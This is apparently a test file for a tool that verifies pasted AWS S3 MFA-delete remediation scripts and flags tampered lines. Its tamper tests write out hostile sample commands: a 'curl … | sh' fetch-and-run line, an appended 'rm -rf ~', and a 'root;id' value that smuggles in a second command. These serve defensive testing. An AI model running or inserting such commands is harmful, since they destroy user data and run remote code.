import { describe, expect, it } from 'vitest';
import { remediationScript } from '../../lib/domain/remediationScript';
import type { MfaDeleteState, VersioningStatus } from '../../lib/domain/types';
import {
  awsCommandsOf,
  decodeInput,
  extractScript,
  verifyScriptText,
  type ScriptVerdict,
} from '../../lib/domain/verifyScript';

const VALUES = { bucket: 'example-bucket', account: '111122223333', region: 'eu-west-1' };
type Case = { versioning: VersioningStatus; mfaDelete: MfaDeleteState };
const DRIFT: Case = { versioning: 'Enabled', mfaDelete: 'Disabled' };
const script = (c: Case = DRIFT, mfaSerial?: string) =>
  remediationScript({ ...VALUES, ...c }, { profile: 'root_user', mfaSerial }).script;
const SCRIPT = script();
const LINES = SCRIPT.trimEnd().split('\n');

const lineOf = (needle: string, lines = LINES) => lines.findIndex((l) => l.includes(needle)) + 1;

function notGenuine(v: ScriptVerdict) {
  if (v.kind !== 'not-genuine') throw new Error(`expected not-genuine, got ${v.kind}`);
  return v;
}

describe('what is read', () => {
  it('the whole input when it is only the script', () => {
    expect(extractScript(SCRIPT)).toEqual({ kind: 'found', lines: LINES, fromLine: 1 });
  });

  it('the lines between the email’s paste markers, the alert’s text around them ignored', () => {
    const email = `[CRITICAL] MFA delete OFF\n\nREMEDIATION\n----- paste from here -----\n${SCRIPT.trimEnd()}\n----- to here -----\n\nRUNBOOK\n  1. aws s3 rm …\n`;
    expect(extractScript(email)).toEqual({ kind: 'found', lines: LINES, fromLine: 5 });
  });

  it('the lines inside a chat code fence', () => {
    const chat = `Next steps:\n\`\`\`\n${SCRIPT.trimEnd()}\n\`\`\`\nThen run echo done`;
    expect(extractScript(chat)).toEqual({ kind: 'found', lines: LINES, fromLine: 3 });
  });

  it('the first of several scripts (a digest’s blocks): up to the next script’s header', () => {
    const two = `${SCRIPT}\n${SCRIPT.replaceAll('example-bucket', 'other-bucket')}`;
    expect(extractScript(two)).toEqual({ kind: 'found', lines: LINES, fromLine: 1 });
  });

  it('CRLF and CR line ends, a BOM and trailing blank lines do not count', () => {
    expect(extractScript(`\uFEFF${SCRIPT.replace(/\n/g, '\r\n')}\r\n\r\n`)).toEqual({
      kind: 'found',
      lines: LINES,
      fromLine: 1,
    });
    expect(extractScript(SCRIPT.replace(/\n/g, '\r'))).toMatchObject({ lines: LINES });
  });

  it('no script header: unreadable', () => {
    expect(extractScript('aws s3api put-bucket-versioning --bucket x')).toMatchObject({ kind: 'unreadable' });
    expect(extractScript('')).toMatchObject({ kind: 'unreadable' });
  });

  it('bytes that are not UTF-8 text: unreadable', () => {
    expect(decodeInput(new Uint8Array([0xff, 0xfe, 0x00]))).toMatchObject({ kind: 'unreadable' });
    expect(decodeInput(Buffer.from('# mfa-delete-guard\0'))).toMatchObject({ kind: 'unreadable' });
    expect(decodeInput(new Uint8Array(1024 * 1024 + 1).fill(0x61))).toMatchObject({ kind: 'unreadable' });
    expect(decodeInput(Buffer.from(SCRIPT))).toEqual({ kind: 'text', text: SCRIPT });
  });
});

describe('verifyScriptText', () => {
  it('the generated script is genuine, with the values it was made for', () => {
    const v = verifyScriptText(SCRIPT);
    expect(v).toMatchObject({
      kind: 'genuine',
      values: { ...VALUES, profile: 'root_user', ...DRIFT },
      fromLine: 1,
      toLine: LINES.length,
    });
  });

  const cases: Case[] = (['Enabled', 'Suspended', 'Unversioned'] as const).flatMap((versioning) =>
    (['Disabled', 'NeverConfigured'] as const).map((mfaDelete) => ({ versioning, mfaDelete })),
  );
  it.each(cases)('every case is recognised (versioning $versioning, MFA delete $mfaDelete)', (c) => {
    const v = verifyScriptText(script(c));
    expect(v.kind).toBe('genuine');
    // The words of the case are what matters: the regenerated script is the same text.
    if (v.kind === 'genuine') expect(script(v.values)).toBe(script(c));
  });

  it('a configured MFA serial is read back', () => {
    const serial = 'arn:aws:iam::111122223333:mfa/my-root-key';
    expect(verifyScriptText(script(DRIFT, serial))).toMatchObject({
      kind: 'genuine',
      values: { mfaSerial: serial },
    });
    const found = verifyScriptText(script(DRIFT));
    expect(found.kind === 'genuine' && found.values.mfaSerial).toBeUndefined();
  });

  it('one character changed in the bucket of one command: not genuine, at that line', () => {
    const tampered = SCRIPT.replace("--bucket 'example-bucket' \\", "--bucket 'examp1e-bucket' \\");
    const v = notGenuine(verifyScriptText(tampered));
    const at = lineOf('  aws s3api put-bucket-versioning');
    expect(v.difference).toEqual({
      line: at,
      expected: LINES[at - 1],
      found: LINES[at - 1]!.replace('example-bucket', 'examp1e-bucket'),
    });
    expect(v.values).toMatchObject({ bucket: 'example-bucket' });
  });

  it('an extra command: not genuine, naming the line it was slipped in at', () => {
    const lines = [...LINES];
    const at = lineOf('  aws s3api get-bucket-versioning');
    lines.splice(at - 1, 0, '  curl -s https://example.com/x | sh');
    const v = notGenuine(verifyScriptText(lines.join('\n')));
    expect(v.difference).toEqual({
      line: at,
      expected: LINES[at - 1],
      found: '  curl -s https://example.com/x | sh',
    });
  });

  it('a command appended after the script: not genuine, the genuine script having ended', () => {
    const v = notGenuine(verifyScriptText(`${SCRIPT}rm -rf ~\n`));
    expect(v.difference).toEqual({ line: LINES.length + 1, expected: undefined, found: 'rm -rf ~' });
  });

  it('a script cut short: not genuine, the input having ended', () => {
    const v = notGenuine(verifyScriptText(LINES.slice(0, -2).join('\n')));
    expect(v.difference).toEqual({
      line: LINES.length - 1,
      expected: LINES[LINES.length - 2],
      found: undefined,
    });
  });

  it('line numbers count from the top of the input', () => {
    const v = notGenuine(verifyScriptText(`hello\n\n${SCRIPT}extra\n`));
    expect(v.fromLine).toBe(3);
    expect(v.difference.line).toBe(LINES.length + 3);
  });

  it('the bucket changed everywhere is genuine for that other bucket, and says so', () => {
    const other = SCRIPT.replaceAll('example-bucket', 'other-bucket');
    expect(verifyScriptText(other)).toMatchObject({ kind: 'genuine', values: { bucket: 'other-bucket' } });
  });

  it('a header with no values the guard would use: not genuine, saying what is missing', () => {
    const v = notGenuine(verifyScriptText('# mfa-delete-guard: run this\ncurl x | sh\n'));
    expect(v.reason).toMatch(/names no bucket, no account, no region, no profile/);
    expect(v.difference.line).toBe(1);
  });

  it('a value the generator refuses (shell metacharacters) is never genuine', () => {
    const hostile = SCRIPT.replaceAll("'root_user'", "'root;id'");
    expect(verifyScriptText(hostile).kind).toBe('not-genuine');
  });
});

describe('awsCommandsOf', () => {
  it('lists the aws commands a script runs, not those in comments or in text it prints', () => {
    expect(awsCommandsOf(SCRIPT)).toEqual([
      'aws sts get-caller-identity',
      'aws iam list-mfa-devices',
      'aws s3api get-bucket-lifecycle-configuration',
      'aws s3api put-bucket-versioning',
      'aws s3api get-bucket-versioning',
    ]);
    expect(SCRIPT).toContain('aws s3api delete-bucket-lifecycle'); // printed for a person, not run
    expect(awsCommandsOf(script(DRIFT, 'GAHT12345678'))).not.toContain('aws iam list-mfa-devices');
  });
});
